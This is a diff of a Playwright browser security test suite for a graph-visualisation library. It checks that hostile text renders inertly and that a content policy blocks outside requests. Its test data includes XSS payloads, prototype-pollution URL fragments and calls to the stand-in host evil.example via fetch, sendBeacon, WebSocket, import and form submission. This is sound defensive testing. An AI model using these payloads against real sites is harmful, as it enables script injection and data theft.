@@ -1,161 +1,195 @@
-"""No text in the data runs, sends or breaks anything: it is shown (R8, case 96)."""
+"""No text in the data runs, sends or breaks anything: it is shown (R8, case 96).
 
-from dataclasses import replace
+Every payload stands in every field of a graph (eight graphs a page, each carrying one
+payload everywhere), drawn by each engine; and once more all payloads at a time, each as
+another person, agency and measure of one graph. Then a reader tries every control.
+"""
 
 import pytest
 from playwright.sync_api import expect
 
 import agencygraph as ag
+from agencygraph.page import render
+from tests.browser import hostile
 from tests.browser.graph import Graph
-from tests.browser.payloads import PAYLOADS
+from tests.browser.payloads import PAYLOADS, SENTINELS, tokens
 
-HIDDEN = "\u2068\u2069"
-
-
-def network(text, wave):
-    """Every text that a network has is the payload."""
-    people = [f"{text}{k}" for k in range(4)]
-    groups = [text, text, f"{text}b", None]
-    roster = ag.Roster.from_labels(
-        people, groups, names=[f"{text}n{k}" for k in range(4)]
-    )
-    names = tuple(f"{agency}g" for agency in roster.agencies)
-    roster = replace(roster, agency_attributes={"name": names, text: names})
-    ties = [(0, 1), (1, 2), (2, 3), (3, 0)][: 3 + (wave == "2")]
-    found = ag.Network.from_ties(
-        roster, [people[i] for i, _ in ties], [people[j] for _, j in ties]
-    )
-    return found.replace(
-        wave=text + wave,
-        kind=text,
-        answered=~roster.mask([people[3]]) if wave == "1" else None,
-    )
+ENGINES = ["pyvis"]
+EACH = list(PAYLOADS.items())
+PAGES = [EACH[k : k + hostile.TOGETHER] for k in range(0, len(EACH), hostile.TOGETHER)]
+LONGEST = 60
+"""Longer texts are cut for display."""
 
 
-def table(text, people):
-    return ag.Table(
-        "person",
-        people,
-        {text: [1.5, 2.5, float("nan"), 4.5], f"{text}_lower": [1, 2, 3, 4]},
-        {text: f"Definition: {text}"},
-        (f"Note: {text}",),
-    )
+def is_calm(page, title):
+    """Nothing ran, nothing was sent, and nothing is there but what the page is of."""
+    found = page.evaluate(SENTINELS)
+    # a browser puts a gap where a title has a control character
+    assert tokens(found.pop("title")).replace(" ", "") == tokens(title).replace(" ", "")
+    assert found == {"ran": [], "polluted": [], "strangers": [], "handlers": []}
+    assert page.evaluate("() => globalThis.__asked ?? []") == []
+    assert page.seen.nothing(), page.seen
+    assert page.seen.downloads == []
 
 
-def page_of(text):
-    waves = network(text, "1"), network(text, "2")
-    tables = tuple({text: table(text, wave.roster.people)} for wave in waves)
-    return ag.draw(waves, title=text, tables=tables, size=text)
+def watched(open_file, page, folder, name="page.html"):
+    path = page.save(folder / name, overwrite=True)
+    return open_file(path, watch=hostile.WATCH)
 
 
 def shown(locator):
-    return locator.evaluate("node => node.textContent").translate(
-        {ord(mark): None for mark in HIDDEN}
-    )
+    """What is there to read, as one line."""
+    return tokens(locator.evaluate("node => node.textContent"))
 
 
-def use_everything(graph):
-    """Do all that a reader can do, so that every text is put on the page."""
-    for mode in (0, 1, 2):
-        graph.part("modes").locator("label").nth(mode).click()
-        for k in range(4) if mode == 2 else [mode]:
-            at = graph.ask("g.engine.screenOf(x)", k)
-            graph.page.mouse.move(at["x"], at["y"])
-            graph.page.mouse.click(at["x"], at["y"])
-            graph.settle()
-    for label in graph.part("legend").locator("label").all():
-        label.hover()
-        label.click()
-        label.click()
-    graph.root.locator(".graph-notes summary").click()
-    graph.part("panel").locator(".contact").first.hover()
-    graph.part("size").select_option(index=0)
+@pytest.mark.parametrize("engine", ENGINES)
+@pytest.mark.parametrize("some", PAGES, ids=lambda some: some[0][0])
+def test_a_payload_in_every_field_is_text_and_nothing_else(
+    open_file, tmp_path, some, engine
+):
+    sections = [
+        hostile.section_of(text, f"graph-{k}") for k, (_, text) in enumerate(some)
+    ]
+    page = watched(open_file, render(sections, title=some[0][1]), tmp_path)
+
+    for k, (name, text) in enumerate(some):
+        graph = Graph(page, f"graph-{k}")
+        assert graph.ask("g.data.graph.engine") == engine
+        used = page.evaluate(hostile.READER, [f"graph-{k}", [text[:40], f"{text}0"]])
+
+        assert used["radio"] >= 3
+        assert used["select"] >= 3
+        assert used["checkbox"] >= 6
+        assert used["button"] >= 5
+        if len(text) <= LONGEST and tokens(text):
+            check_shown(graph, text, name)
+        is_calm(page, some[0][1])
+
+
+def check_shown(graph, text, name):
+    """The payload is on the page, letter by letter, wherever it was given."""
+    graph.part("search").fill("n0")  # ends the name of one
+    graph.part("found").locator("button").last.dispatch_event("click")
+    panel, seen = shown(graph.part("panel")), tokens(text)
+
+    assert seen in panel, name
+    assert panel.count(seen) >= 3, name
+    assert f"Definition: {seen}" in panel, name
+    assert tokens(f"Note: {text}") in shown(graph.root.locator(".graph-notes")), name
+    assert seen in shown(graph.part("modes")), name
+    assert seen in shown(graph.part("legend")), name
+    assert tokens(text.replace("_", " ")) in shown(graph.part("size")), name
+
+
+@pytest.mark.parametrize("engine", ENGINES)
+def test_all_payloads_at_once_are_people_agencies_and_measures(
+    open_file, tmp_path, engine
+):
+    waves, tables = hostile.crowd(list(PAYLOADS.values()))
+    made = ag.draw(waves, title="Crowd", tables=tables, size=None)
+    page = watched(open_file, made, tmp_path)
+    graph = Graph(page)
+    assert graph.ask("g.data.graph.engine") == engine
+
+    page.evaluate(hostile.READER, [None, ["<script>", "proto", "x"]])
+    for person in range(0, len(PAYLOADS), 10):
+        at = graph.ask("g.engine.screenOf(x)", person)
+        page.mouse.move(at["x"], at["y"])
+        page.mouse.click(at["x"], at["y"])
     graph.settle()
 
+    more = graph.part("legend").locator(".more")
+    while more.count():
+        more.dispatch_event("click")
+    legend = shown(graph.part("legend"))
+    told = [name for name, text in EACH if tokens(text)[:LONGEST] not in legend]
+    assert told == []
+    is_calm(page, "Crowd")
 
-@pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)
-def test_a_payload_in_every_field_is_text_and_nothing_else(show, text):
-    whole = text[:60] if len(text) < 100 else None  # longer names are cut for display
-    graph = Graph(show(page_of(text)))
 
-    use_everything(graph)
-    graph.part("search").fill(text[:40])
+def test_a_title_is_text_wherever_it_stands(open_file, tmp_path):
+    path = tmp_path / "page.html"
+    page = watched(open_file, render([], title="x"), tmp_path)
 
-    page = graph.page
-    assert page.evaluate("() => window.__ran") is None
-    assert page.evaluate("() => Object.prototype.hasOwnProperty('polluted')") is False
-    assert page.url.startswith("file:")
-    assert page.locator("a, img, iframe, form, object, embed, base, link").count() == 0
-    expect(graph.part("found").get_by_role("button").first).to_be_visible()
-    graph.part("search").press("Enter")
-    if whole is not None:
-        title = page.get_by_role("heading", level=1)
-        heading = graph.part("panel").get_by_role("heading")
-        assert shown(title) == text
-        assert shown(heading).startswith(text)
-        assert shown(graph.part("panel")).count(text) >= 4
-        assert f"Definition: {text}" in shown(graph.part("panel"))
-        assert f"Note: {text}" in shown(graph.root.locator(".graph-notes"))
-        assert text + "1" in shown(graph.part("modes"))
-        assert text in shown(graph.part("legend"))
-        assert text.replace("_", " ") in shown(graph.part("size"))
-    assert page.seen.nothing()
+    for name, text in EACH:
+        render([], title=text).save(path, overwrite=True)
+        page.reload()
+
+        assert shown(page.locator("h1")) == tokens(text), name
+        is_calm(page, text)
 
 
 def test_there_are_payloads_for_every_way_in():
-    assert len(PAYLOADS) >= 12
-    assert sum("__ran" in text for text in PAYLOADS.values()) >= 12
+    assert len(PAYLOADS) >= 60
+    assert len(set(PAYLOADS.values())) == len(PAYLOADS)
+    assert sum("__ran" in text for text in PAYLOADS.values()) >= 60
+    assert sum("evil.example" in text for text in PAYLOADS.values()) >= 20
 
 
-ATTEMPTS = """async () => {
-  const wait = () => new Promise((done) => setTimeout(done, 120));
-  const add = (tag, values) => {
-    document.body.append(Object.assign(document.createElement(tag), values));
-  };
-  const attempts = [
-    () => add("script", { textContent: "window.__ran = 1" }),
-    () => add("script", { src: "https://evil.example/s.js" }),
-    () => add("script", { src: "data:text/javascript,window.__ran=1" }),
-    () => { const box = document.createElement("div");
-            box.innerHTML = '<img src=x onerror="window.__ran = 1">';
-            document.body.append(box); },
-    () => (0, eval)("window.__ran = 1"),
-    () => new Function("window.__ran = 1")(),
-    () => setTimeout("window.__ran = 1", 0),
-    () => fetch("https://evil.example/f"),
-    () => navigator.sendBeacon("https://evil.example/b", "x"),
-    () => { const ask = new XMLHttpRequest();
-            ask.open("GET", "https://evil.example/x"); ask.send(); },
-    () => { new Image().src = "https://evil.example/i.png"; },
-    () => add("style", { textContent: "body { background: url(//evil.example/c) }" }),
-    () => add("link", { rel: "stylesheet", href: "https://evil.example/l.css" }),
-    () => add("link", { rel: "prefetch", href: "https://evil.example/p" }),
-    () => add("iframe", { src: "https://evil.example/frame" }),
-    () => add("object", { data: "https://evil.example/o" }),
-    () => add("video", { src: "https://evil.example/v" }),
-    () => new Worker(URL.createObjectURL(new Blob(["1"]))),
-    () => import("https://evil.example/m.js"),
-    () => { const form = document.createElement("form");
-            form.action = "https://evil.example/form"; form.target = "_blank";
-            document.body.append(form); form.submit(); },
-  ];
-  let tried = 0;
-  for (const attempt of attempts) {
-    try { await attempt(); } catch (error) { /* blocked, as it should be */ }
-    tried += 1;
-    await wait();
-  }
-  return [tried, window.__ran ?? null];
-}"""
+@pytest.mark.parametrize(
+    "page",
+    [
+        "<script>window.__ran = 1</script>",
+        "<img src=x onerror='window.__ran = 1'>",
+        "<a href='javascript:1'>x</a>",
+        "<script>Object.prototype.polluted = 1</script>",
+        "<script>alert(1)</script>",
+        "<script>location = 'about:blank#x'</script>",
+        "<script>open('about:blank')</script>",
+        "<script>new WebSocket('ws://evil.example/')</script>",
+        "<script>new RTCPeerConnection()</script>",
+        "<meta http-equiv=refresh content='0;url=about:blank'>",
+        "<img src='https://evil.example/x.png'>",
+        "<p onclick='1'>x</p>",
+    ],
+)
+def test_a_page_on_which_something_happens_is_found_out(open_file, tmp_path, page):
+    """Else the tests above could not fail."""
+    path = tmp_path / "page.html"
+    path.write_text(f"<!doctype html><title>x</title><body>{page}", "utf-8")
+    opened = open_file(path, strict=False, watch=hostile.WATCH)
+    opened.wait_for_timeout(100)
+
+    with pytest.raises(AssertionError):
+        is_calm(opened, "x")
 
 
-def test_the_policy_stops_what_code_of_a_stranger_would_try(show):
-    page = show(page_of("plain"), strict=False)
+# --- addresses ----------------------------------------------------------------
 
-    tried, ran = page.evaluate(ATTEMPTS)
 
-    assert tried == 20
-    assert ran is None
-    assert page.seen.requests == []
-    blocked = [text for text in page.seen.messages if "Content Security Policy" in text]
-    assert len(blocked) >= 12
+FRAGMENTS = [
+    "#",
+    "#x",
+    "#person=<script>window.__ran=1</script>",
+    "#person=%3Cimg%20src=x%20onerror=window.__ran=1%3E",
+    "#person=__proto__&agency=constructor&size=toString",
+    "#from=-1&to=99999999999&mode=__proto__",
+    "#zoom=NaN&x=Infinity&y=1e999&scale=-1",
+    "#javascript:window.__ran=1",
+    "#%",
+    "#%E0%A4%A&person=%00",
+    "#person=%ED%A0%80&person=%FF",
+    "#__proto__[polluted]=1&constructor.prototype.polluted=1",
+    "#graph=__proto__&open=1e9&off=0,1,2,-1,x,,&kinds=9",
+    "#" + "person=x&" * 2_000,
+    "#path=0,0&path=-1,99&least=-5&where=%22%3E",
+    "#level=agencies&open=constructor&theme=url(https://evil.example)",
+    "#data-graph",
+    "#{%22polluted%22:1}",
+]
+
+
+@pytest.mark.parametrize("fragment", FRAGMENTS, ids=range(len(FRAGMENTS)))
+def test_an_address_changes_nothing_but_the_view(open_file, tmp_path, fragment):
+    path = hostile.page_of("plain").save(tmp_path / "page.html")
+    page = open_file(path, fragment=fragment, watch=hostile.WATCH)
+    graph = Graph(page)
+
+    graph.settle()
+    page.evaluate("(text) => { location.hash = text; }", fragment)
+    graph.settle()
+
+    is_calm(page, "plain")
+    expect(graph.part("status")).to_contain_text("people")
+    people = graph.ask("Array.from(g.data.people.id)")
+    assert people == [f"plain{k}" for k in range(4)]
